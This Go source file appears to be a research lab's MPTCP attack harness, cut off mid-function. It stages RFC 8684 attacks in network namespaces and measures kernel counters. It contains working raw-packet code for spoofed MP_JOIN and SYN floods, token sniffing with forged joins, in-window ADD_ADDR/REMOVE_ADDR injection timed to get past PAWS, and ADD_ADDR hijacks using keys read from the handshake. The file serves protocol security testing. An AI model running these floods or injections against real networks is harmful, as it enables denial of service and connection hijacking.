// Package attack is the lab's MPTCP attack suite (docs/results/attacks): raw packets
// sent from an attacker node at a server and a client that keep serving a
// genuine transfer, and the kernel's MPTCP counters that tell what the
// kernel did with them. Each Kind is one attack of RFC 8684 sec. 5 /
// RFC 7430 that the lab can stage:
//
//   - join-flood: SYN+MP_JOIN at the server's port with random tokens and
//     spoofed random sources (an off-path attacker guessing tokens; the
//     MP_JOIN denial of service).
//   - join-hmac: an on-path attacker (a router or relay on a detour path)
//     learns the connection's token from a genuine MP_JOIN SYN passing it
//     and opens its own joins with that token, answering the server's
//     SYN/ACK with a third ACK whose HMAC it cannot know.
//   - add-addr: the on-path attacker injects, into a subflow it sees, ACKs
//     carrying ADD_ADDR that announce its own address with a wrong HMAC
//     (the ADD_ADDR hijack). The kernel ignores those without counting
//     them; every tenth injection is an ADD_ADDR echo (no HMAC), which it
//     does count (EchoAdd): the control that the injections are processed.
//   - remove-addr: the same with REMOVE_ADDR for address id 0 (the
//     server's initial address, the remote id of every subflow toward it);
//     REMOVE_ADDR carries no HMAC in RFC 8684.
//   - stolen-keys: an eavesdropper on the initial handshake (RFC 8684 sec.
//     5's residual threat) reads both keys from the client's MP_CAPABLE
//     third ACK and injects ADD_ADDRs announcing its own address with the
//     correct HMAC: what the keys in clear allow.
//   - syn-flood: SYN flood amplification (RFC 7430 sec. 4): MP_CAPABLE
//     SYNs from spoofed random sources at the server's port; the attacker,
//     on the server's path, counts what the server sends back to those
//     sources (packets, bytes, SYN/ACKs, and any other MPTCP signal such
//     as an ADD_ADDR or a join), the amplification being out/in.
//   - join-redirect: SYN/JOIN address substitution, destination: a
//     middlebox (the attacker node, forwarding the joins) rewrites the
//     destination of every MP_JOIN SYN toward the target to its own
//     address, where an MPTCP listener on the same port is "another peer"
//     (nftables DNAT matching the MP_JOIN option; conntrack carries the
//     rest of that subflow).
//   - join-masquerade: the same with the source: every MP_JOIN SYN toward
//     the target leaves the middlebox from the middlebox's own address
//     (SNAT), so the join appears to come from another host.
//   - none: nothing is sent (the baseline; the genuine-connection prober
//     runs in every kind).
//
// Every kind also runs a prober in the client node: short genuine MPTCP
// connections to the server at a fixed rate (to a listener of its own on
// the next port, which the join flood hits too), counted as established,
// MPTCP or failed, the "genuine connection success rate".
//
// Packets are built with internal/mptcpwire and sent through raw sockets
// opened in the attacker node; on-path kinds read the traffic through an
// AF_PACKET socket there. Lab only: nothing here is part of the product.
package attack

import (
	"bufio"
	"context"
	"crypto/hmac"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/google/nftables"
	"github.com/google/nftables/expr"
	"github.com/vishvananda/netlink"
	"golang.org/x/net/ipv4"
	"golang.org/x/sys/unix"

	"github.com/mpdetour/mpdetour/internal/mptcpwire"
)

// Kinds.
const (
	None       = "none"
	JoinFlood  = "join-flood"
	JoinHMAC   = "join-hmac"
	AddAddr    = "add-addr"
	RemoveAddr = "remove-addr"
	StolenKeys = "stolen-keys"
	SYNFlood   = "syn-flood"
	// SYN/JOIN address substitution.
	JoinRedirect   = "join-redirect"
	JoinMasquerade = "join-masquerade"
)

// floodSources is where the floods' spoofed sources come from (RFC 2544's
// benchmarking range, routed nowhere in the lab).
var floodSources = netip.MustParsePrefix("198.18.0.0/16")

// Kinds lists every kind.
func Kinds() []string {
	return []string{None, JoinFlood, JoinHMAC, AddAddr, RemoveAddr, StolenKeys, SYNFlood, JoinRedirect, JoinMasquerade}
}

// Lab is what an attack needs of the lab.
type Lab interface {
	// Do runs fn inside node's network namespace (sockets opened there
	// belong to it).
	Do(node string, fn func() error) error
	Addr(node string) netip.Addr
}

// Config is one attack during one trial.
type Config struct {
	Kind     string
	Attacker string         // attacker node
	Client   string         // client node (prober, client-side counters)
	Server   string         // server node (server-side counters)
	Target   netip.AddrPort // the server's listening address
	// Rate is the attack's packets per second (floods) or injections per
	// second (add-addr, remove-addr).
	Rate int
	// ProbeRate is the prober's genuine connections per second (0: none).
	// They go to ProbePort on the target's address (default its port + 1),
	// where Start runs an MPTCP listener in the server node that accepts
	// and closes: a port of its own, so that an agent's grants for the
	// genuine transfer's server:port are not churned by the probes (grants
	// are cached per server address and port). Floods go to both ports.
	ProbeRate int
	ProbePort uint16
	// Count, if positive, stops the attack after that many packets (e.g.
	// one SYN: what a single SYN makes the server send).
	Count int
	// PlainSYN makes syn-flood send plain TCP SYNs (no MP_CAPABLE): the
	// TCP baseline of the amplification.
	PlainSYN bool
}

// counters are the MPTcpExt fields reported (delta over the trial).
var serverCounters = []string{"MPJoinSynRx", "MPJoinNoTokenFound", "MPJoinAckRx", "MPJoinAckHMacFailure", "MPJoinRejected", "MPCapableSYNRX",
	"MPCapableACKRX", "AddAddrTx", "MPJoinSynTx", "TcpExt.SyncookiesSent", "TcpExt.TCPReqQFullDrop", "TcpExt.ListenDrops"}
var clientCounters = []string{"AddAddr", "AddAddrDrop", "EchoAdd", "EchoAddTx", "RmAddr", "RmAddrDrop", "RmSubflow", "MPJoinSynTx", "MPJoinSynAckRx"}

// attackerCounters are read in the attacker node for the substitution
// kinds, whose "other peer" is a listener there.
var attackerCounters = []string{"MPJoinSynRx", "MPJoinNoTokenFound", "MPJoinAckRx"}

// Run is a started attack.
type Run struct {
	cfg    Config
	lab    Lab
	cancel context.CancelFunc
	wg     sync.WaitGroup
	// probing: the prober and its connections in flight; Stop waits for
	// them before the cleanup closes the listener they dial.
	probing sync.WaitGroup
	before  map[string]uint64

	sent, injected, sniffed, tokens, synacks atomic.Uint64
	// syn-flood: bytes sent; what the server sent to the spoofed sources
	// (packets, bytes, RSTs, segments with an MP_CAPABLE holding its key,
	// segments with any other MPTCP option).
	inBytes, outPkts, outBytes, outRST, outCapable, outOther atomic.Uint64
	controls                                                 atomic.Uint64
	probes, probeOK, probeMPTCP                              atomic.Uint64
	errMu                                                    sync.Mutex
	err                                                      error
	cleanup                                                  []func()
	started                                                  time.Time
}

// Start begins the attack and the prober; Stop ends them.
func Start(ctx context.Context, l Lab, cfg Config) (*Run, error) {
	known := false
	for _, k := range Kinds() {
		known = known || k == cfg.Kind
	}
	if !known {
		return nil, fmt.Errorf("attack: unknown kind %q (known: %s)", cfg.Kind, strings.Join(Kinds(), ", "))
	}
	if cfg.Rate <= 0 {
		cfg.Rate = 1000
	}
	if cfg.ProbePort == 0 {
		cfg.ProbePort = cfg.Target.Port() + 1
	}
	r := &Run{cfg: cfg, lab: l}
	var err error
	if r.before, err = r.counters(); err != nil {
		return nil, err
	}
	if cfg.ProbeRate > 0 {
		if err := r.probeListener(); err != nil {
			r.runCleanup()
			return nil, err
		}
	}
	ctx, r.cancel = context.WithCancel(ctx)
	r.started = time.Now()
	if err := r.startAttack(ctx); err != nil {
		r.cancel()
		r.runCleanup()
		return nil, err
	}
	if cfg.ProbeRate > 0 {
		r.probing.Add(1)
		go r.prober(ctx)
	}
	return r, nil
}

func (r *Run) fail(err error) {
	r.errMu.Lock()
	if r.err == nil {
		r.err = err
	}
	r.errMu.Unlock()
}

func (r *Run) runCleanup() {
	for i := len(r.cleanup) - 1; i >= 0; i-- {
		r.cleanup[i]()
	}
	r.cleanup = nil
}

// Stop ends the attack and returns what it did and what the kernels
// counted meanwhile: attack.* (packets sent, injections, tokens learnt),
// probe.* (genuine connections), server.<MIB> and client.<MIB> deltas.
func (r *Run) Stop() (map[string]float64, error) {
	r.cancel()
	// Probes still dialling when the attack stops count as attempts: let
	// them finish before the cleanup closes their listener (else the last
	// one fails and a genuine connection looks refused).
	r.probing.Wait()
	r.runCleanup()
	r.wg.Wait()
	after, err := r.counters()
	if err != nil {
		return nil, err
	}
	m := map[string]float64{
		"attack.sent": float64(r.sent.Load()), "attack.injected": float64(r.injected.Load()),
		"attack.sniffed": float64(r.sniffed.Load()), "attack.tokens": float64(r.tokens.Load()),
		"attack.synacks": float64(r.synacks.Load()), "attack.controls": float64(r.controls.Load()),
		"attack.seconds": time.Since(r.started).Seconds(),
		"probe.attempts": float64(r.probes.Load()), "probe.established": float64(r.probeOK.Load()),
		"probe.mptcp": float64(r.probeMPTCP.Load()),
	}
	for k, v := range after {
		m[k] = float64(v - r.before[k])
	}
	if r.cfg.Kind == SYNFlood {
		m["attack.in_bytes"] = float64(r.inBytes.Load())
		m["attack.out_pkts"] = float64(r.outPkts.Load())
		m["attack.out_bytes"] = float64(r.outBytes.Load())
		m["attack.out_rst"] = float64(r.outRST.Load())
		m["attack.out_capable"] = float64(r.outCapable.Load())
		m["attack.out_other_mptcp"] = float64(r.outOther.Load())
	}
	r.errMu.Lock()
	defer r.errMu.Unlock()
	return m, r.err
}

// counters reads the MPTcpExt MIB of the server and client nodes.
func (r *Run) counters() (map[string]uint64, error) {
	out := map[string]uint64{}
	for _, side := range []struct {
		node, prefix string
		keys         []string
	}{{r.cfg.Server, "server.", serverCounters}, {r.cfg.Client, "client.", clientCounters}, {r.cfg.Attacker, "attacker.", attackerCounters}} {
		if side.prefix == "attacker." && r.cfg.Kind != JoinRedirect && r.cfg.Kind != JoinMasquerade {
			continue
		}
		var mib, tcp map[string]uint64
		err := r.lab.Do(side.node, func() error {
			var err error
			if mib, err = readNetstat("/proc/thread-self/net/netstat", "MPTcpExt:"); err != nil {
				return err
			}
			tcp, err = readNetstat("/proc/thread-self/net/netstat", "TcpExt:")
			return err
		})
		for k, v := range tcp {
			mib["TcpExt."+k] = v
		}
		if err != nil {
			return nil, fmt.Errorf("attack: MPTCP counters of %s: %w", side.node, err)
		}
		for _, k := range side.keys {
			out[side.prefix+k] = mib[k]
		}
	}
	return out, nil
}

// readMPTcpExt parses the MPTcpExt lines of a netstat file.
func readMPTcpExt(path string) (map[string]uint64, error) { return readNetstat(path, "MPTcpExt:") }

// readNetstat parses the two lines of a netstat file that start with
// prefix ("MPTcpExt:", "TcpExt:"): names, then values.
func readNetstat(path, prefix string) (map[string]uint64, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 64<<10), 1<<20)
	var names []string
	for sc.Scan() {
		fs := strings.Fields(sc.Text())
		if len(fs) == 0 || fs[0] != prefix {
			continue
		}
		if names == nil {
			names = fs[1:]
			continue
		}
		m := map[string]uint64{}
		for i, v := range fs[1:] {
			if i < len(names) {
				m[names[i]], _ = strconv.ParseUint(v, 10, 64)
			}
		}
		return m, nil
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return nil, fmt.Errorf("no %s counters (kernel without MPTCP?)", strings.TrimSuffix(prefix, ":"))
}

func random32() uint32 {
	var b [4]byte
	_, _ = rand.Read(b[:])
	return binary.BigEndian.Uint32(b[:])
}

func random64() uint64 {
	var b [8]byte
	_, _ = rand.Read(b[:])
	return binary.BigEndian.Uint64(b[:])
}

// sender is a raw IP_HDRINCL socket in the attacker node.
type sender struct{ c *ipv4.RawConn }

func (s sender) send(seg *mptcpwire.Segment) error {
	_, err := s.sendLen(seg)
	return err
}

// sendLen sends seg and returns its IP length.
func (s sender) sendLen(seg *mptcpwire.Segment) (int, error) {
	b, err := seg.Marshal()
	if err != nil {
		return 0, err
	}
	h, err := ipv4.ParseHeader(b[:20])
	if err != nil {
		return 0, err
	}
	return len(b), s.c.WriteTo(h, b[20:], nil)
}

func (r *Run) openSender() (sender, error) {
	var s sender
	err := r.lab.Do(r.cfg.Attacker, func() error {
		pc, err := net.ListenPacket("ip4:tcp", "0.0.0.0")
		if err != nil {
			return err
		}
		// Marked for onPathRules (harmless where there are none).
		if rc, err := pc.(*net.IPConn).SyscallConn(); err == nil {
			var serr error
			_ = rc.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_MARK, attackMark) })
			if serr != nil {
				pc.Close()
				return fmt.Errorf("SO_MARK: %w", serr)
			}
		}
		s.c, err = ipv4.NewRawConn(pc)
		if err != nil {
			pc.Close()
		}
		return err
	})
	if err != nil {
		return s, fmt.Errorf("attack: raw socket in %s: %w", r.cfg.Attacker, err)
	}
	r.cleanup = append(r.cleanup, func() { s.c.Close() })
	return s, nil
}

// openSniffer is an AF_PACKET socket of the attacker node seeing every IPv4
// packet on its interfaces (received and sent, so forwarded packets
// twice: before and after the node's NAT).
func (r *Run) openSniffer() (*os.File, error) {
	var f *os.File
	err := r.lab.Do(r.cfg.Attacker, func() error {
		// ETH_P_ALL, not ETH_P_IP: only taps of every protocol see the
		// packets a node sends (forwarded ones after its NAT); frames
		// that are not IPv4 fail to parse and are skipped.
		fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
		if err != nil {
			return err
		}
		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_RCVBUF, 4<<20)
		_ = unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_TIMESTAMPNS, 1) // for sniffAt
		f = os.NewFile(uintptr(fd), "attack-sniffer")
		return nil
	})
	if err != nil {
		return nil, fmt.Errorf("attack: packet socket in %s: %w", r.cfg.Attacker, err)
	}
	r.cleanup = append(r.cleanup, func() { f.Close() })
	return f, nil
}

func htons(v uint16) uint16 { return v<<8 | v>>8 }

// attackMark marks the attacker's own packets (SO_MARK) for its nftables
// rules.
const attackMark = 0x4d50

// onPathRules installs the attacker node's nftables table, removed by
// Stop: its marked packets skip conntrack (a relay's NAT would otherwise
// treat an injected segment as a new connection clashing with the one it
// translates and rewrite its port), and with dropRST the node's kernel does
// not reset the joins the attacker opens from its own address (no socket
// owns them).
func (r *Run) onPathRules(dropRST bool) error {
	return r.lab.Do(r.cfg.Attacker, func() error {
		c, err := nftables.New()
		if err != nil {
			return err
		}
		t := c.AddTable(&nftables.Table{Family: nftables.TableFamilyIPv4, Name: "mpdetour_attack"})
		raw := c.AddChain(&nftables.Chain{Name: "raw", Table: t, Type: nftables.ChainTypeFilter,
			Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityRaw})
		mark := binary.NativeEndian.AppendUint32(nil, attackMark)
		c.AddRule(&nftables.Rule{Table: t, Chain: raw, Exprs: []expr.Any{
			&expr.Meta{Key: expr.MetaKeyMARK, Register: 1},
			&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: mark},
			&expr.Notrack{},
		}})
		if dropRST {
			ch := c.AddChain(&nftables.Chain{Name: "out", Table: t, Type: nftables.ChainTypeFilter,
				Hooknum: nftables.ChainHookOutput, Priority: nftables.ChainPriorityFilter})
			c.AddRule(&nftables.Rule{Table: t, Chain: ch, Exprs: []expr.Any{
				&expr.Meta{Key: expr.MetaKeyL4PROTO, Register: 1},
				&expr.Cmp{Op: expr.CmpOpEq, Register: 1, Data: []byte{unix.IPPROTO_TCP}},
				&expr.Payload{DestRegister: 1, Base: expr.PayloadBaseTransportHeader, Offset: 13, Len: 1},
				&expr.Bitwise{SourceRegister: 1, DestRegister: 1, Len: 1, Mask: []byte{mptcpwire.RST}, Xor: []byte{0}},
				&expr.Cmp{Op: expr.CmpOpNeq, Register: 1, Data: []byte{0}},
				&expr.Verdict{Kind: expr.VerdictDrop},
			}})
		}
		if err := c.Flush(); err != nil {
			return fmt.Errorf("nftables rules: %w", err)
		}
		node := r.cfg.Attacker
		r.cleanup = append(r.cleanup, func() {
			_ = r.lab.Do(node, func() error {
				c, err := nftables.New()
				if err != nil {
					return err
				}
				c.DelTable(t)
				return c.Flush()
			})
		})
		return nil
	})
}

func (r *Run) startAttack(ctx context.Context) error {
	switch r.cfg.Kind {
	case None:
		return nil
	case JoinFlood:
		s, err := r.openSender()
		if err != nil {
			return err
		}
		r.wg.Add(1)
		go r.paced(ctx, func() error {
			src := randomFloodSource()
			port := r.cfg.Target.Port()
			if r.cfg.ProbeRate > 0 && random32()%2 == 0 {
				port = r.cfg.ProbePort // the prober's listener too
			}
			return s.send(&mptcpwire.Segment{
				Src: src, Dst: r.cfg.Target.Addr(), ID: uint16(random32()),
				SrcPort: uint16(1024 + random32()%60000), DstPort: port, Seq: random32(),
				Flags: mptcpwire.SYN, Window: 64240,
				Options: []mptcpwire.Option{{Kind: mptcpwire.OptMSS, Data: []byte{0x05, 0xb4}}, mptcpwire.JoinSYN(1, false, random32(), random32())},
			})
		})
		return nil
	case JoinHMAC:
		s, err := r.openSender()
		if err != nil {
			return err
		}
		sn, err := r.openSniffer()
		if err != nil {
			return err
		}
		if err := r.onPathRules(true); err != nil {
			return fmt.Errorf("attack: %w", err)
		}
		own := r.lab.Addr(r.cfg.Attacker)
		var token atomic.Uint32
		var have atomic.Bool
		r.wg.Add(1)
		go r.sniff(sn, func(seg *mptcpwire.Segment) {
			switch {
			case seg.Flags == mptcpwire.SYN && seg.Dst == r.cfg.Target.Addr() && seg.DstPort == r.cfg.Target.Port() && seg.Src != own:
				// A genuine join toward the server: its token.
				if o, ok := mptcpwire.Find(seg.Options, mptcpwire.MPJoin); ok {
					if j, err := mptcpwire.ParseJoin(o); err == nil && j.Stage == "SYN" {
						if !have.Load() || token.Load() != j.Token {
							r.tokens.Add(1)
						}
						token.Store(j.Token)
						have.Store(true)
					}
				}
			case seg.Flags == mptcpwire.SYN|mptcpwire.ACK && seg.Dst == own && seg.Src == r.cfg.Target.Addr():
				// The server's answer to our join: the third ACK with a
				// made-up HMAC.
				if _, ok := mptcpwire.Find(seg.Options, mptcpwire.MPJoin); !ok {
					return
				}
				r.synacks.Add(1)
				var mac [20]byte
				binary.BigEndian.PutUint64(mac[:], random64())
				if err := s.send(&mptcpwire.Segment{
					Src: own, Dst: seg.Src, SrcPort: seg.DstPort, DstPort: seg.SrcPort,
					Seq: seg.Ack, Ack: seg.Seq + 1, Flags: mptcpwire.ACK, Window: 502,
					Options: []mptcpwire.Option{mptcpwire.JoinACK(mac)},
				}); err == nil {
					r.injected.Add(1)
				}
			}
		})
		r.wg.Add(1)
		go r.paced(ctx, func() error {
			if !have.Load() {
				return errNothing
			}
			return s.send(&mptcpwire.Segment{
				Src: own, Dst: r.cfg.Target.Addr(), ID: uint16(random32()),
				SrcPort: uint16(20000 + random32()%40000), DstPort: r.cfg.Target.Port(), Seq: random32(),
				Flags: mptcpwire.SYN, Window: 64240,
				Options: []mptcpwire.Option{{Kind: mptcpwire.OptMSS, Data: []byte{0x05, 0xb4}}, mptcpwire.JoinSYN(7, false, token.Load(), random32())},
			})
		})
		return nil
	case StolenKeys:
		return r.startStolenKeys(ctx)
	case SYNFlood:
		return r.startSYNFlood(ctx)
	case JoinRedirect, JoinMasquerade:
		return r.startJoinSubst()
	case AddAddr, RemoveAddr:
		s, err := r.openSender()
		if err != nil {
			return err
		}
		if err := r.onPathRules(false); err != nil {
			return fmt.Errorf("attack: %w", err)
		}
		sn, err := r.openSniffer()
		if err != nil {
			return err
		}
		client, own := r.lab.Addr(r.cfg.Client), r.lab.Addr(r.cfg.Attacker)
		var mu sync.Mutex
		var last *mptcpwire.Segment // the newest segment toward the client
		var lastAt time.Time        // when it passed (the kernel's capture time)
		r.wg.Add(1)
		go r.sniffAt(sn, func(seg *mptcpwire.Segment, at time.Time) {
			if seg.Dst != client {
				return
			}
			if seg.Flags&(mptcpwire.RST|mptcpwire.FIN) != 0 {
				// That connection is ending (often one of the short probe
				// connections): forged segments in it would never reach
				// MPTCP option processing, so its echo controls would be
				// counted as sent but could not be echoed.
				mu.Lock()
				if last != nil && last.Src == seg.Src && last.SrcPort == seg.SrcPort && last.DstPort == seg.DstPort {
					last = nil
				}
				mu.Unlock()
				return
			}
			if seg.Flags&mptcpwire.ACK == 0 || seg.Flags&mptcpwire.SYN != 0 {
				return
			}
			mu.Lock()
			last, lastAt = seg, at
			mu.Unlock()
		})
		r.wg.Add(1)
		go r.paced(ctx, func() error {
			mu.Lock()
			seg, at := last, lastAt
			mu.Unlock()
			if seg == nil {
				return errNothing
			}
			// An ACK of the same connection, in window: the sniffed
			// segment's sequence number past its data, its ACK and
			// timestamps (TSval advanced to now), and the forged option.
			opt := mptcpwire.RemoveAddrOpt(0)
			if r.cfg.Kind == AddAddr {
				// Every tenth is an ADD_ADDR echo, which carries no HMAC:
				// the kernel counts it (EchoAdd), proving that the forged
				// segments reach its MPTCP option processing; the others
				// announce our address with a made-up HMAC.
				if r.sent.Load()%10 == 9 {
					opt = mptcpwire.AddAddrOpt(42, own, 0, true, 0)
					r.controls.Add(1)
				} else {
					opt = mptcpwire.AddAddrOpt(42, own, 0, false, random64())
				}
			}
			opts := []mptcpwire.Option{opt}
			if ts, ok := findKind(seg.Options, mptcpwire.OptTimestamp); ok {
				opts = append([]mptcpwire.Option{{Kind: mptcpwire.OptNOP}, {Kind: mptcpwire.OptNOP}, advanceTSval(ts, time.Since(at))}, opts...)
			}
			err := s.send(&mptcpwire.Segment{
				Src: seg.Src, Dst: seg.Dst, ID: uint16(random32()), SrcPort: seg.SrcPort, DstPort: seg.DstPort,
				Seq: seg.Seq + uint32(len(seg.Payload)), Ack: seg.Ack, Flags: mptcpwire.ACK, Window: seg.Window, Options: opts,
			})
			if err == nil {
				r.injected.Add(1)
			}
			return err
		})
		return nil
	}
	return fmt.Errorf("attack: kind %q not implemented", r.cfg.Kind)
}

// errNothing: an on-path attack has nothing to send yet.
var errNothing = errors.New("nothing to send yet")

// advanceTSval returns the timestamp option ts with its TSval advanced by
// the whole milliseconds in age: the sender's TSval clock runs at 1 kHz
// (Linux's, unless a route enables microsecond timestamps, which the lab
// does not), so this is its TSval now, at most one tick behind. A segment
// injected with the sniffed TSval unchanged is older than every segment of
// the subflow sent since: once the receiver has seen one of those two
// ticks newer, PAWS (RFC 7323) drops the injected segment before MPTCP
// reads its options (TcpExt PAWSEstab). Under load the attacker lags the
// subflow by several ms, and a third of the add-addr controls were lost
// that way (each lost one with a PAWSEstab increment). Never ahead of the
// sender's clock: a TSval from the future would make the receiver drop
// the genuine segments after it.
func advanceTSval(ts mptcpwire.Option, age time.Duration) mptcpwire.Option {
	if len(ts.Data) != 8 || age <= 0 {
		return ts
	}
	d := append([]byte(nil), ts.Data...)
	binary.BigEndian.PutUint32(d, binary.BigEndian.Uint32(d)+uint32(age/time.Millisecond))
	return mptcpwire.Option{Kind: ts.Kind, Data: d}
}

func findKind(opts []mptcpwire.Option, kind uint8) (mptcpwire.Option, bool) {
	for _, o := range opts {
		if o.Kind == kind {
			return o, true
		}
	}
	return mptcpwire.Option{}, false
}

// paced calls send Rate times per second (in batches every 10 ms) until
// ctx ends; send returns errNothing when it had nothing to send yet (an
// on-path attack before it saw what it needs). Send errors other than a
// full buffer end the attack.
func (r *Run) paced(ctx context.Context, send func() error) {
	defer r.wg.Done()
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	start := time.Now()
	var done uint64
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		due := uint64(time.Since(start).Seconds() * float64(r.cfg.Rate))
		if r.cfg.Count > 0 {
			due = min(due, uint64(r.cfg.Count))
		}
		for ; done < due; done++ {
			if err := send(); err != nil {
				if errors.Is(err, errNothing) || errors.Is(err, unix.ENOBUFS) || errors.Is(err, unix.EAGAIN) {
					continue
				}
				if ctx.Err() == nil {
					r.fail(fmt.Errorf("attack %s: send: %w", r.cfg.Kind, err))
				}
				return
			}
			r.sent.Add(1)
		}
	}
}

// sniff parses every TCP packet the sniffer sees and hands it to fn until
// the socket is closed.
func (r *Run) sniff(f *os.File, fn func(*mptcpwire.Segment)) {
	r.sniffLen(f, func(seg *mptcpwire.Segment, _ int) { fn(seg) })
}

// sniffAt is sniff with the time each packet passed: the kernel's receive
// timestamp (SO_TIMESTAMPNS, which openSniffer sets), not when this
// goroutine got to it (under load it lags the traffic by milliseconds).
func (r *Run) sniffAt(f *os.File, fn func(*mptcpwire.Segment, time.Time)) {
	defer r.wg.Done()
	rc, err := f.SyscallConn()
	if err != nil {
		r.fail(fmt.Errorf("attack: sniffer: %w", err))
		return
	}
	buf := make([]byte, 65536)
	oob := make([]byte, 256)
	for {
		var n, oobn int
		var rerr error
		if err := rc.Read(func(fd uintptr) bool {
			n, oobn, _, _, rerr = unix.Recvmsg(int(fd), buf, oob, 0)
			return rerr != unix.EAGAIN
		}); err != nil || rerr != nil {
			return
		}
		at := time.Now()
		if cms, err := unix.ParseSocketControlMessage(oob[:oobn]); err == nil {
			for _, cm := range cms {
				if cm.Header.Level == unix.SOL_SOCKET && cm.Header.Type == unix.SO_TIMESTAMPNS && len(cm.Data) >= 16 {
					at = time.Unix(int64(binary.NativeEndian.Uint64(cm.Data)), int64(binary.NativeEndian.Uint64(cm.Data[8:])))
				}
			}
		}
		seg, _, err := mptcpwire.ParseIPv4(buf[:n], false)
		if err != nil {
			continue
		}
		r.sniffed.Add(1)
		fn(seg, at)
	}
}

// sniffLen is sniff with each packet's IP length.
func (r *Run) sniffLen(f *os.File, fn func(*mptcpwire.Segment, int)) {
	defer r.wg.Done()
	buf := make([]byte, 65536)
	for {
		n, err := f.Read(buf)
		if err != nil {
			return
		}
		seg, _, err := mptcpwire.ParseIPv4(buf[:n], false)
		if err != nil {
			continue
		}
		r.sniffed.Add(1)
		fn(seg, n)
	}
}

// probeTarget is where the prober connects.
func (r *Run) probeTarget() netip.AddrPort {
	return netip.AddrPortFrom(r.cfg.Target.Addr(), r.cfg.ProbePort)
}

// probeListener accepts the prober's connections in the server node and
// closes them.
func (r *Run) probeListener() error {
	if err := r.acceptAndClose(r.cfg.Server, r.probeTarget(), nil); err != nil {
		return fmt.Errorf("attack: prober's listener in %s: %w", r.cfg.Server, err)
	}
	return nil
}

// acceptAndClose listens (MPTCP) on addr in node, closes every connection
// it accepts after calling onAccept (if any), and stops at cleanup.
func (r *Run) acceptAndClose(node string, addr netip.AddrPort, onAccept func()) error {
	var ln net.Listener
	err := r.lab.Do(node, func() error {
		var lc net.ListenConfig
		lc.SetMultipathTCP(true)
		var err error
		ln, err = lc.Listen(context.Background(), "tcp4", addr.String())
		return err
	})
	if err != nil {
		return err
	}
	done := make(chan struct{})
	go func() {
		defer close(done)
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			if onAccept != nil {
				onAccept()
			}
			c.Close()
		}
	}()
	r.cleanup = append(r.cleanup, func() { ln.Close(); <-done })
	return nil
}

// prober opens short genuine MPTCP connections from the client to the
// target at ProbeRate per second, each given 2 s to establish.
func (r *Run) prober(ctx context.Context) {
	defer r.probing.Done()
	every := time.Second / time.Duration(r.cfg.ProbeRate)
	tick := time.NewTicker(every)
	defer tick.Stop()
	var wg sync.WaitGroup
	defer wg.Wait()
	for {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		r.probes.Add(1)
		wg.Add(1)
		go func() {
			defer wg.Done()
			var c net.Conn
			err := r.lab.Do(r.cfg.Client, func() error {
				d := net.Dialer{Timeout: 2 * time.Second}
				d.SetMultipathTCP(true)
				var err error
				c, err = d.Dial("tcp4", r.probeTarget().String())
				return err
			})
			if err != nil {
				return
			}
			r.probeOK.Add(1)
			if mp, err := c.(*net.TCPConn).MultipathTCP(); err == nil && mp {
				r.probeMPTCP.Add(1)
			}
			c.Close()
		}()
	}
}

// startStolenKeys: read the keys of every MPTCP connection to the target
// from its MP_CAPABLE third ACK (client -> server: the client's key, then
// the server's), then inject into the connection's newest server -> client
// segment an ADD_ADDR for our own address whose HMAC is right: HMAC-SHA256
// keyed by the server's key then the client's over id || address || port
// (RFC 8684 sec. 3.4.1), the rightmost 64 bits.
func (r *Run) startStolenKeys(ctx context.Context) error {
	s, err := r.openSender()
	if err != nil {
		return err
	}
	sn, err := r.openSniffer()
	if err != nil {
		return err
	}
	if err := r.onPathRules(false); err != nil {
		return fmt.Errorf("attack: %w", err)
	}
	own := r.lab.Addr(r.cfg.Attacker)
	type conn struct {
		client, server uint64 // keys
		last           *mptcpwire.Segment
	}
	var mu sync.Mutex
	conns := map[uint16]*conn{} // by the client's port
	r.wg.Add(1)
	go r.sniff(sn, func(seg *mptcpwire.Segment) {
		mu.Lock()
		defer mu.Unlock()
		switch {
		case seg.Dst == r.cfg.Target.Addr() && seg.DstPort == r.cfg.Target.Port():
			o, ok := mptcpwire.Find(seg.Options, mptcpwire.MPCapable)
			if !ok {
				return
			}
			if c, err := mptcpwire.ParseCapable(o); err == nil && len(c.Keys) == 2 && conns[seg.SrcPort] == nil {
				conns[seg.SrcPort] = &conn{client: c.Keys[0], server: c.Keys[1]}
				r.tokens.Add(1) // key pairs learnt
			}
		case seg.Src == r.cfg.Target.Addr() && seg.SrcPort == r.cfg.Target.Port() && seg.Flags&mptcpwire.ACK != 0 &&
			seg.Flags&(mptcpwire.SYN|mptcpwire.RST|mptcpwire.FIN) == 0:
			if c := conns[seg.DstPort]; c != nil {
				c.last = seg
			}
		}
	})
	r.wg.Add(1)
	go r.paced(ctx, func() error {
		mu.Lock()
		var targets []*mptcpwire.Segment
		var hmacs []uint64
		for _, c := range conns {
			if c.last != nil {
				targets = append(targets, c.last)
				hmacs = append(hmacs, AddAddrHMAC(c.server, c.client, 42, own, 0))
			}
		}
		mu.Unlock()
		if len(targets) == 0 {
			return errNothing
		}
		i := int(random32() % uint32(len(targets)))
		seg := targets[i]
		opts := []mptcpwire.Option{mptcpwire.AddAddrOpt(42, own, 0, false, hmacs[i])}
		if ts, ok := findKind(seg.Options, mptcpwire.OptTimestamp); ok {
			opts = append([]mptcpwire.Option{{Kind: mptcpwire.OptNOP}, {Kind: mptcpwire.OptNOP}, ts}, opts...)
		}
		err := s.send(&mptcpwire.Segment{
			Src: seg.Src, Dst: seg.Dst, ID: uint16(random32()), SrcPort: seg.SrcPort, DstPort: seg.DstPort,
